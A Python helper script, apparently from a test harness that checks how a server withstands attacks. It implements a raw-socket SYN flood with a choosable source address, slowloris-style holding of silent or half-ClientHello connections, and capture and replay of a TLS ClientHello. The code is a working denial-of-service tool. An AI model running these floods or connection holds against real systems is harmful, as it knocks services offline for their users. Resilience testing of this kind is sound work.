"""Packets and connections of an attacker, for attacks.sh:
  attack.py syn ADDRESS PORT SECONDS [SOURCE]     SYN segments from ever new ports as fast as this goes; says how many
  attack.py hold ADDRESS PORT COUNT SECONDS [HALF] that many connections that say nothing, or half a ClientHello
  attack.py hear PORT FILE                        takes one connection's first bytes (a ClientHello) into FILE
  attack.py say ADDRESS PORT FILE                 sends FILE over a connection, then FILE again; says how it ends
"""
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(address, port, seconds, source):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    raw.bind((source, 0))
    pseudo = socket.inet_aton(source) + socket.inet_aton(address) + struct.pack("!BBH", 0, 6, 20)
    end = time.monotonic() + seconds
    sent = 0
    while time.monotonic() < end:
        fields = [random.randrange(1024, 65536), port, random.getrandbits(32), 0, 5 << 4, 2, 65535, 0, 0]
        fields[7] = checksum(pseudo + struct.pack("!HHIIBBHHH", *fields))
        try:
            raw.sendto(struct.pack("!HHIIBBHHH", *fields), (address, 0))
            sent += 1
        except OSError:
            pass
    print(sent)


def hold(address, port, count, seconds, half):
    held = []
    for _ in range(count):
        one = socket.socket()
        one.setblocking(False)
        one.connect_ex((address, port))
        held.append(one)
    time.sleep(0.3)
    for one in held if half else []:
        try:
            one.send(bytes.fromhex("160301020001"))
        except OSError:
            pass
    print("held", flush=True)
    time.sleep(seconds)


def hear(port, name):
    listener = socket.create_server(("127.0.0.1", port))
    print("hearing", flush=True)
    one, _ = listener.accept()
    one.settimeout(5)
    data = one.recv(16384)
    while len(data) < 5 + struct.unpack("!H", data[3:5])[0]:
        data += one.recv(16384)
    open(name, "wb").write(data)


def say(address, port, name):
    hello = open(name, "rb").read()
    one = socket.socket()
    one.settimeout(3)
    try:
        one.connect((address, port))
    except OSError:
        print("silent")
        return
    got = b""
    try:
        one.sendall(hello)
        got = one.recv(16384)
        one.sendall(hello)
        while True:
            more = one.recv(16384)
            if not more:
                break
    except ConnectionError:
        pass
    except socket.timeout:
        print("still open")
        return
    print("answered, then cut" if got else "cut")


what, rest = sys.argv[1], sys.argv[2:]
if what == "syn":
    syn(rest[0], int(rest[1]), float(rest[2]), rest[3])
elif what == "hold":
    hold(rest[0], int(rest[1]), int(rest[2]), float(rest[3]), len(rest) > 4)
elif what == "hear":
    hear(int(rest[0]), rest[1])
else:
    say(rest[0], int(rest[1]), rest[2])
